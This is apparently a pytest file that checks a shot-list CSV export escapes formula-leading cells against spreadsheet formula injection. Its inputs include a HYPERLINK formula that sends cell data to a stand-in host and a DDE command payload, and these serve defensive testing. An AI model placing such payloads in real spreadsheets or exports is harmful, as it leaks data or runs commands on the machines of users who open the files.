"""A shot list opened in a spreadsheet runs nothing: every cell that would start a formula
is written as text."""

import csv
import io

import pytest

from projects import export_csv
from tests.factories import make_cut

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "script",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
        "+1+2",
        "-2+3",
        "@Seohee sits by the window.",
        "\tindented",
        "\rreturn first",
    ],
)
def test_a_cell_starting_a_formula_is_exported_as_text(project, script):
    make_cut(project=project, script=script, prompt="=cmd|' /C calc'!A0")

    [row] = list(csv.DictReader(io.StringIO(export_csv.export_csv(project), newline="")))

    assert row["script"] == "'" + script
    assert row["prompt"] == "'=cmd|' /C calc'!A0"


def test_ordinary_cells_are_exported_unchanged(project):
    make_cut(project=project, script="She waits. @Seohee - then rain.", prompt="A cafe at dusk")

    [row] = list(csv.DictReader(io.StringIO(export_csv.export_csv(project), newline="")))

    assert row["script"] == "She waits. @Seohee - then rain."
    assert (row["prompt"], row["cut"], row["status"]) == ("A cafe at dusk", "1", "Draft")
